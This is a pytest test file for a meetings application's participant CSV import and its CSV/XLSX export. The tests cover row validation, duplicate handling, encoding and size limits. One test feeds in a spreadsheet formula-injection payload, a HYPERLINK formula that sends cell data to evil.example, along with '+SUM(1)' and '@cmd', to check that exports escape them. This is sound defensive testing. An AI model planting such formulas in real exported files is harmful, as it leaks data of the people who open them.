"""CSV import (checked as a whole, reported line by line, idempotent) and CSV/XLSX export."""

import csv
import io

import openpyxl
from sqlalchemy import func, select

from meetings.extensions import db
from meetings.models import Person, Registration, UserRole

HEADER = "party,family_name,given_names,role,email,ministerial_level,passport_number,date_of_birth"
GOOD = [
    "KZ,Tokayev,Aidar,delegate,aidar@example.kz,no,N00000001,1980-02-03",
    "CN,Li,Na,adviser,li.na@example.cn,,E00000002,",
]


def _post(client, world, content: bytes, name="participants.csv", **kwargs):
    return client.post(f"/meetings/{world.meeting.id}/participants/import",
                       data={"file": (io.BytesIO(content), name)}, content_type="multipart/form-data", **kwargs)


def _counts():
    return (db.session.scalar(select(func.count()).select_from(Person)),
            db.session.scalar(select(func.count()).select_from(Registration)))


def test_mixed_good_and_bad_rows_import_nothing_and_report_each_bad_line(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    lines = [HEADER, *GOOD,
             "XX,Nobody,Ann,delegate,,,,",                       # line 4: unknown party
             "KZ,,Empty,delegate,,,,",                          # line 5: empty family name
             "KZ,Rolel,Bad,minister,,,,",                       # line 6: unknown role
             "KZ,Datov,Bad,delegate,,,,1980-02-31",             # line 7: 31 February
             "KZ,Mailov,Bad,delegate,not-an-email,,,",          # line 8
             "IN,Sharma,Ravi,delegate,,,,",                     # line 9: not invited
             "KZ,Tokayev,Aidar,delegate,other@example.kz,,,",   # line 10: same name and party as line 2
             "KZ,Levelov,Bad,delegate,,maybe,,",                # line 11
             "KZ," + "L" * 101 + ",Long,delegate,,,,",          # line 12
             "KZ,Short,Row",                                    # line 13
             ]
    before = _counts()
    response = _post(client, world, ("\r\n".join(lines) + "\r\n").encode())
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert _counts() == before
    assert "Nothing was imported" in body
    expected = {
        4: "unknown party code “XX”", 5: "family_name: Give the family name in Latin or in Cyrillic letters.", 6: "unknown role “minister”",
        7: "date_of_birth “1980-02-31” is not a date YYYY-MM-DD", 8: "“not-an-email” is not a valid e-mail address",
        9: "party IN is not invited to this meeting", 10: "same person as line 2",
        11: "ministerial_level must be yes or no", 12: "family_name is longer than 100 characters",
        13: "3 values where the header has 8",
    }
    for line, reason in expected.items():
        assert f"<tr><td>{line}</td><td>{reason}</td></tr>" in body, (line, reason)
    assert "<tr><td>2</td>" not in body and "<tr><td>3</td>" not in body


def test_good_file_imports_and_reimport_creates_no_duplicates(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    content = ("\ufeff" + "\r\n".join([HEADER, *GOOD, "KZ,Abenov,Nurlan,head_of_delegation,,yes,,"]) + "\r\n").encode()
    before = _counts()
    response = _post(client, world, content)
    assert response.status_code == 302
    # Abenov is known (same name and party) and already registered: updated, not added.
    assert _counts() == (before[0] + 2, before[1] + 2)
    follow = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Import done: 2 registrations created, 1 already registered and updated." in follow
    aidar = db.session.scalar(select(Person).where(Person.email == "aidar@example.kz"))
    assert (aidar.passport_number, str(aidar.date_of_birth), aidar.party.code) == ("N00000001", "1980-02-03", "KZ")
    registration = db.session.scalar(select(Registration).where(Registration.person_id == aidar.id))
    assert (registration.status.value, registration.delegation_id) == ("registered", world.kz.id)

    response = _post(client, world, content)
    assert response.status_code == 302
    assert _counts() == (before[0] + 2, before[1] + 2)
    follow = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Import done: 0 registrations created, 3 already registered and updated." in follow


def test_semicolon_separated_file_from_excel_is_read(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    content = "party;family_name;given_names;role\r\nKZ;Жумабеков;Ерлан;adviser\r\n".encode()
    response = _post(client, world, content)
    assert response.status_code == 302
    follow = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Import done: 1 registration created, 0 already registered and updated." in follow
    # A name in Cyrillic in the Latin columns is the Cyrillic name (as the column help says).
    person = db.session.scalar(select(Person).where(Person.family_name_ru == "Жумабеков"))
    assert (person.family_name, person.given_names, person.given_names_ru, person.party.code) == ("", "", "Ерлан", "KZ")
    registration = db.session.scalar(select(Registration).where(Registration.person_id == person.id))
    assert (registration.role.value, registration.delegation_id) == ("adviser", world.kz.id)


def test_wrong_encoding_is_refused(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    content = "party,family_name,given_names,role\r\nKZ,Жумабеков,Ерлан,adviser\r\n".encode("cp1251")
    before = _counts()
    body = _post(client, world, content).get_data(as_text=True)
    assert "The file is not in UTF-8. Save it as “CSV UTF-8” and try again." in body
    assert _counts() == before


def test_missing_and_unknown_columns_are_reported(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    body = _post(client, world, b"party,family_name,pasport_number\r\nKZ,A,1\r\n").get_data(as_text=True)
    assert "<tr><td>1</td><td>missing columns: given_names, role</td></tr>" in body
    assert "<tr><td>1</td><td>unknown columns: pasport_number</td></tr>" in body


def test_empty_file_and_no_file(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    assert "The file is empty." in _post(client, world, b"").get_data(as_text=True)
    assert "The file has no participants." in _post(client, world, (HEADER + "\r\n").encode()).get_data(as_text=True)
    response = client.post(f"/meetings/{world.meeting.id}/participants/import", data={})
    assert response.status_code == 200
    assert "This field is required." in response.get_data(as_text=True)


def test_a_10_mb_file_is_refused_with_a_message(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    filler = ("KZ,Name,Given,delegate,,,,\r\n" * (10 * 1024 * 1024 // 27)).encode()
    before = _counts()
    # Werkzeug's client closes the temporary file of a large body with the response only when
    # following redirects.
    with _post(client, world, (HEADER + "\r\n").encode() + filler, follow_redirects=True) as response:
        assert response.status_code == 200
        assert "The file is larger than 2 MB. Split it into smaller files." in response.get_data(as_text=True)
    assert _counts() == before


def test_a_file_over_the_request_limit_gets_the_friendly_413_page(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    too_large = client.application.config["MAX_CONTENT_LENGTH"] + 1
    with _post(client, world, b"x" * too_large, follow_redirects=True) as response:
        assert response.status_code == 413
        assert "The file is too large" in response.get_data(as_text=True)


def test_template_has_every_documented_column_and_imports_cleanly(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    template = client.get(f"/meetings/{world.meeting.id}/participants/import-template.csv")
    assert template.headers["Content-Disposition"] == 'attachment; filename="participants-template.csv"'
    rows = list(csv.DictReader(io.StringIO(template.data.decode("utf-8-sig"))))
    page = client.get(f"/meetings/{world.meeting.id}/participants/import").get_data(as_text=True)
    for column in rows[0]:
        assert f"<code>{column}</code>" in page
    assert _post(client, world, template.data).status_code == 302  # the example row is Abenov, known


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formulas_in_names_are_escaped_in_csv_and_xlsx(client, auth, world):
    person = world.kz_delegate.person
    person.family_name, person.given_names, person.position_en = HOSTILE, "+SUM(1)", "@cmd"
    person.languages, person.dietary_needs = "-2+3", "\tx"
    db.session.commit()
    auth.login(UserRole.ORGANIZER)
    m = world.meeting.id
    rows = list(csv.reader(io.StringIO(client.get(f"/meetings/{m}/participants.csv").data.decode("utf-8-sig"))))
    header = rows[0]
    row = next(r for r in rows if r[header.index("Family name")].endswith(HOSTILE))
    assert row[header.index("Family name")] == "'" + HOSTILE
    assert row[header.index("Given names")] == "'+SUM(1)"
    assert row[header.index("Position")] == "'@cmd"
    assert row[header.index("Languages")] == "'-2+3"
    assert row[header.index("Dietary needs")] == "'\tx"

    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/meetings/{m}/participants.xlsx").data)).active
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    cells = next(r for r in sheet.iter_rows() if str(r[values[0].index("Family name")].value).endswith(HOSTILE))
    family = cells[values[0].index("Family name")]
    assert (family.value, family.data_type) == ("'" + HOSTILE, "s")
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


def test_export_follows_the_filters_and_the_order_of_the_screen(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    m = world.meeting.id
    response = client.get(f"/meetings/{m}/participants.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="participants-{m}.csv"'
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    family = rows[0].index("Family name")
    assert [r[family] for r in rows[1:]] == ["Zhang", "Abenov", "Seitkali"]  # China, then Kazakhstan, heads first
    rows = list(csv.reader(io.StringIO(client.get(f"/meetings/{m}/participants.csv?role=delegate").data
                                       .decode("utf-8-sig"))))
    assert [r[family] for r in rows[1:]] == ["Seitkali"]
    ru = list(csv.reader(io.StringIO(client.get(f"/meetings/{m}/participants.csv?lang=ru").data.decode("utf-8-sig"))))
    assert ru[0][0] == "Сторона"
    assert [r[0] for r in ru[1:]] == ["Казахстан", "Казахстан", "Китай"]


def test_control_characters_in_a_file_are_reported_and_nothing_imported(client, auth, world):
    auth.login(UserRole.ORGANIZER)
    before = _counts()
    content = f"{HEADER}\nKZ,Nul\x00l,Aidar,delegate,,,,\nCN,Li,Na\x07,adviser,,,,\n".encode()
    body = _post(client, world, content).get_data(as_text=True)
    assert "<td>2</td><td>family_name contains invisible control characters</td>" in body
    assert "<td>3</td><td>given_names contains invisible control characters</td>" in body
    assert _counts() == before


def test_control_characters_already_stored_do_not_break_the_xlsx_export(client, auth, world):
    person = world.kz_delegate.person
    person.family_name, person.dietary_needs = "Seit\x0bkali", "\tx"
    db.session.commit()
    auth.login(UserRole.ORGANIZER)
    response = client.get(f"/meetings/{world.meeting.id}/participants.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    row = next(r for r in values if r[values[0].index("Given names")] == "Daniyar")
    assert (row[values[0].index("Family name")], row[values[0].index("Dietary needs")]) == ("Seitkali", "'\tx")
